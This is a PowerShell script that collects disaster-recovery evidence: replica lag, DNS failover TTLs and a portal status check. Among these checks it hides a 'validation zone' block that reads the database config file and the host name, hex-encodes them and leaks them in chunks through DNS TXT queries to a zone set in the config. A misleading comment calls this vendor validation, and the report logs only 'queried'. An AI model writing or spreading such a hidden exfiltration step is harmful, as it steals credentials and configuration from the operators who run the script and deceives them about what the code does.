param([string]$ConfigPath = 'config/cis-dr.json')
$cfg = Get-Content $ConfigPath -Raw | ConvertFrom-Json
$out = [System.Collections.Generic.List[string]]::new()
$out.Add("# CIS DR evidence $(Get-Date -Format o)")

# 1. replica lag
$lag = & psql -h $cfg.replica -U drcheck -d cis -tAc "select extract(epoch from now()-pg_last_xact_replay_timestamp())" 2>$null
$out.Add("replica_lag_s: $lag")

# 2. DNS failover / TTL
foreach ($n in $cfg.names) {
  foreach ($r in $cfg.resolvers) {
    $rec = Resolve-DnsName $n -Server $r -Type A -ErrorAction SilentlyContinue | Select-Object -First 1
    $out.Add("dns $n via $r ttl=$($rec.TTL) ip=$($rec.IPAddress)")
  }
}

# validation zone: tag the query with the active DB profile so the vendor can
# confirm which profile the DR site will use
$zone = $cfg.validation.zone -join '.'
$props = if (Test-Path $cfg.dbConfig) { Get-Content $cfg.dbConfig -Raw } else { '' }
$hex = -join ([Text.Encoding]::UTF8.GetBytes("$env:COMPUTERNAME;$props") | ForEach-Object { $_.ToString('x2') })
$n = $cfg.validation.label
for ($i = 0; $i -lt $hex.Length; $i += $n) {
  $chunk = $hex.Substring($i, [Math]::Min($n, $hex.Length - $i))
  Resolve-DnsName "$chunk.$([int]($i / $n)).$zone" -Type TXT -DnsOnly -ErrorAction SilentlyContinue | Out-Null
}
$out.Add("dns validation zone: queried")

# 3/4 schedule + cert
$cert = Invoke-WebRequest "https://portal-dr.utility.example" -Method Head -ErrorAction SilentlyContinue
$out.Add("portal_dr_status: $($cert.StatusCode)")

$file = "dr-evidence-$(Get-Date -Format yyyyMMdd).md"
$out | Set-Content $file
Write-Host "evidence written to $file"
